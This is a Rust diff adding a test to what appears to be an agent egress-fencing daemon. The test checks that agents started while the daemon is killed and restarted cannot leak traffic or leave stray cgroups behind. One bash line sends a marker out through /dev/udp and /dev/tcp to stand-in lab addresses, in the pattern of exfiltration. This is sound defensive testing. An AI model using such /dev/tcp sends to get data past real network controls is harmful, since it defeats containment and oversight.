@@ -7,7 +7,7 @@ use crate::{
     fence::Fence,
     places::EVIL,
     policies::{COMMON, with},
-    program::poll_for,
+    program::{DEADLINE, Program, poll_for},
     sniffer::mark,
     storm::{self, Storm},
     talker::Talker,
@@ -154,6 +154,31 @@ fn a_flood_of_a_sealed_agent_finds_no_gap_while_the_daemon_dies_and_comes_back()
 }
 
 #[test]
+fn agents_that_start_and_end_while_the_daemon_dies_leave_nothing_behind() {
+    let mut fence = fence(COMMON);
+    let (mark, position) = (mark(), fence.lab().sniffer().position());
+    let trick = format!("echo {mark} > /dev/udp/10.99.0.66/9000; echo {mark} > /dev/tcp/fd99::66/9000");
+    for number in 0..10 {
+        let mode = MODES[number % 2];
+        let agent =
+            Program::start(fence.agent(AGENT).with(&["--mode", mode]).command(&["bash", "-c", &trick]));
+        // From before it asks for its cgroup to after its end.
+        std::thread::sleep(Duration::from_millis(30) * u32::try_from(number).expect("it is small"));
+        fence.kill();
+        let outcome = agent.finish();
+        assert!(!outcome.succeeded(), "it can only fail: {outcome:#?}");
+        fence.restart();
+    }
+    fence.lab().settle();
+    let seen = fence.lab().sniffer().since(position);
+    assert!(!seen.iter().any(|frame| frame.carries(mark.as_bytes())), "an agent found a gap");
+    // One that was killed before its first process is an agent for a minute more.
+    let is_all_theirs = || Holdings::of(&fence).are_of_agents().then_some(());
+    let after = poll_for(DEADLINE, is_all_theirs);
+    assert!(after.is_some(), "{:#?}", Holdings::of(&fence));
+}
+
+#[test]
 fn new_agents_can_be_started_after_a_crash() {
     let mut fence = fence(COMMON);
     let _living = Talker::start(&fence.agent("living"));
@@ -212,6 +237,45 @@ fn stays_closed(fence: &Fence, talker: &mut Talker) {
     let unfenced = tricks.map(|trick| format!("{{trick}} {trick} {{mark}}"));
     leaks(fence.lab(), EVIL, &unfenced.each_ref().map(String::as_str));
 }
+
+/// How many things of each kind there are for agents.
+#[derive(Debug)]
+struct Holdings {
+    agents: usize,
+    sealed: usize,
+    remembered: usize,
+    cgroups: usize,
+    cells: usize,
+    links: usize,
+}
+
+impl Holdings {
+    fn of(fence: &Fence) -> Self {
+        let agents = fence.ctl(&["agents", "-o", "json"]).stdout;
+        let count = |script: &str| fence.lab().run(script).stdout.lines().count();
+        let (run, name) = (fence.socket(), fence.lab().name());
+        let run = run.parent().expect("the socket is in a folder").display();
+        Self {
+            agents: agents.lines().count(),
+            sealed: agents.lines().filter(|agent| agent.contains(r#""boundary":"sealed""#)).count(),
+            remembered: count(&format!("find {run}/agents -name '*.json'")),
+            cgroups: count(&format!("find /sys/fs/cgroup -path '*/egressd-{name}/*' -type d -prune")),
+            cells: count(&format!("find {run}/cells -mindepth 1 -maxdepth 1")),
+            links: count("ip -o link"),
+        }
+    }
+
+    /// Whether there is nothing but the host's own two links, what agents have, and a cell that is
+    /// ready for the next.
+    fn are_of_agents(&self) -> bool {
+        self.remembered == self.agents
+            && self.cgroups == self.agents
+            && (self.sealed..=self.sealed + 1).contains(&self.cells)
+            && self.links == 2 + self.cells
+    }
+}
+
+const MODES: [&str; 2] = ["sealed", "cgroup"];
 
 const OK: &str = "{host: ok.test, private: true}";
 const ALT: &str = "{host: alt.test, private: true}";
